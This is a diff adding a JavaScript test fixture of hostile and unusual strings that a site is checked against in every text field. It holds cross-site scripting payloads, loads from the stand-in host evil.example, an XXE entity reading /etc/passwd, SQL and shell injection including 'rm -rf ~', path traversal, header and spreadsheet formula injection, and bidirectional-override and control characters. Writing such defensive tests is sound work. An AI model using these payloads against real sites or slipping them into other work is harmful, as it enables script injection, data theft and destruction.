@@ -1,0 +1,98 @@
+// Texts that a site may be given by mistake or in bad faith. Each is tried as every text of a site.
+//
+// What would run if it were not taken for text calls `alert` or asks `evil.example` for something: both are seen.
+
+const long = (text, times) => text.repeat(times);
+const points = (...codes) => String.fromCodePoint(...codes);
+
+export const TEXTS = {
+  // Elements, in every context in which a text may stand.
+  script: "<script>alert('element')</script>",
+  "script with an address": "<script src=//evil.example/x.js></script>",
+  "script in pieces": "<scr<script>ipt>alert('pieces')</scr</script>ipt>",
+  "script in capitals": "<ScRiPt >alert('capitals')</sCrIpT\t>",
+  image: "<img src=x onerror=alert('image')>",
+  "image without blanks": "<img/src='x'/onerror=alert('slashes')>",
+  vector: "<svg><script>alert('vector')</script><animate onbegin=alert('animate') attributeName=x dur=1s></svg>",
+  formula: "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
+  frame: "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object data=//evil.example></object>",
+  "base and refresh": "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
+  form: "<form action=//evil.example><input autofocus onfocus=alert('focus')><button formaction=javascript:alert(1)>",
+  details: "<details open ontoggle=alert('toggle')><summary>x</summary></details>",
+  "style sheet": "<style>@import '//evil.example/x.css'; * { background: url(//evil.example/y) }</style>",
+  "preloaded": "<link rel=stylesheet href=//evil.example/z.css><link rel=preload as=image href=//evil.example/p.png>",
+  // The ends of what a text may stand in.
+  "end of a script": "</script><script>alert('end of script')</script>",
+  "end of a style": "</style><img src=x onerror=alert('end of style')>",
+  "end of a title": "</title></textarea></noscript></template></option><img src=x onerror=alert('end of title')>",
+  "end of a page": "</h1></main></body></html><script>alert('after the end')</script>",
+  "a comment": "<!-- never closed",
+  "end of a comment": "--><img src=x onerror=alert('comment')><!--",
+  "a bad comment": "<!--><img src=x onerror=alert('short comment')>--!>",
+  "end of a section": "]]><script>alert('cdata')</script><![CDATA[",
+  "a declaration": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
+  "double quotes": "\" onmouseover=\"alert('double')\" autofocus onfocus=\"alert(1)\" x=\"",
+  "single quotes": "' onmouseover='alert(1)' style='position:fixed;inset:0' x='",
+  "no quotes": "x onload=alert(1) tabindex=1 `onclick=alert(1)`",
+  "quotes in a script": "\\\"; alert('string'); //",
+  "template in a script": "${alert('template')}`;alert(1)//",
+  // Addresses.
+  "script address": "javascript:alert('address')",
+  "script address in disguise": "java\tscript\n:alert(1)",
+  "data address": "data:text/html,<script>alert('data')</script>",
+  "foreign address": "//evil.example/path",
+  "address of names": "https://bücher.example/ü?q=<b>&amp;x=%00%2f#\"'",
+  "long address": `https://example.com/${long("very-long-path/", 60)}?${long("key=value&", 60)}`,
+  "long address without breaks": `https://example.com/${long("x", 600)}`,
+  // What templates, style sheets, shells and databases read.
+  expression: "{{ 7*7 }}{% raw %}{# comment #}{{ __tera_context }}",
+  "expression of others": "${7*7} #{7*7} <%= 7*7 %> [[7*7]] {{constructor.constructor('alert(1)')()}}",
+  placeholder: "{title} {0} %s %n $1 \\1 {{name}}",
+  "style escapes": "\\3c script\\3e } body { display: none } /* \\",
+  "style value": "red; background: url(//evil.example/)",
+  query: "'; DROP TABLE incidents; -- ' OR '1'='1",
+  shell: "$(touch /tmp/hostile) `id` && rm -rf ~ | cat > x; exit #",
+  paths: "../../../etc/passwd ..\\..\\windows C:\\con nul",
+  header: "x\r\nSet-Cookie: a=b\r\nX-Injected: 1",
+  "calendar lines": "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:hostile;,\\n",
+  "front matter": "---\ntitle: other\n---\n+++\n## Resolved · 2022-12-28 20:00\n",
+  "table of values": "=cmd|' /C calc'!A0,\"quoted\";'",
+  // Entities.
+  entities: "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#60;b&#62; &#x3c;i>",
+  "odd entities": "&copy &notin; &unknown; &#0; &#xD800; &#128; & &&& &;",
+  // Markdown.
+  "markdown links": "[here](javascript:alert(1)) [there](//evil.example \"t\") <javascript:alert(1)> [x][y]\n\n[y]: data:text/html,x",
+  "markdown image": "![x](x\"onerror=\"alert(1)) ![y](javascript:alert(1))",
+  "markdown code": "```html\n<script>alert(1)</script>\n``` `</code><img src=x onerror=alert(1)>`",
+  "markdown blocks": "# One\n> two\n- three\n1. four\n\n| a | b |\n| - | - |\n***",
+  "markdown marks": "**bold** _italic_ ~~gone~~ \\* <br> trailing  \nhard\\\nbreak",
+  // Directions.
+  override: points(0x202e) + "live ton si" + points(0x202c) + " but " + points(0x202e) + "open",
+  embeddings: points(0x202a, 0x202b, 0x202d) + "never closed",
+  isolates: points(0x2066, 0x2067, 0x2068) + "never closed",
+  "too many ends": "ends" + points(0x2069, 0x2069, 0x202c, 0x202c),
+  marks: "a" + points(0x200e) + "b" + points(0x200f) + "c" + points(0x61c) + "d",
+  arabic: "خدمة تسجيل الدخول (Web 2.0) - 50٪ متوقفة!",
+  mixed: "Start שירות ההתחברות 123 login خدمة end?",
+  // What nobody sees.
+  "zero width": "zero" + points(0x200b) + "width" + points(0x200c) + "join" + points(0x200d) + "er" + points(0x2060, 0xfeff),
+  "soft hyphens": long("soft" + points(0xad), 40),
+  "odd blanks": "a" + points(0xa0, 0x2003, 0x3000, 0x1680, 0x202f) + "b",
+  "line separators": "one" + points(0x2028) + "two" + points(0x2029) + "three" + points(0x85) + "four",
+  tags: "tag" + points(0xe0068, 0xe0069, 0xe007f) + points(0xfe0f, 0xe0100),
+  controls: "a" + points(0, 1, 7, 8, 0xb, 0xc, 0x1b, 0x7f, 0x80, 0x9f) + "b",
+  "terminal escapes": points(0x1b) + "[31mred" + points(0x1b) + "]0;title" + points(7) + points(0x9b) + "2J",
+  noncharacters: "x" + points(0xfdd0, 0xfffe, 0xffff, 0x1ffff, 0x10ffff) + "y" + points(0xfffd, 0xe000),
+  // What takes room.
+  "combining tower": "Z" + long(points(0x300, 0x316, 0x337, 0x489), 100) + "algo",
+  "tall and wide": "﷽ 𒐫 ⸻ ꧅ " + long("﷽", 20),
+  emoji: "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🇺🇦🇺🇦🇺 👍🏽 " + long("👨‍👩‍👧‍👦", 50),
+  "long with blanks": long("word ", 2000),
+  "long without blanks": long("w", 10_000),
+  "long without blanks, in Chinese": long("状态", 500),
+  "long in Arabic": long("خدمة", 500),
+  "long identifier": long("a_b-c.", 200),
+  "one letter": "x",
+  "only marks": "!?…—",
+  numbers: "0 -1 1e309 NaN Infinity null undefined true",
+};
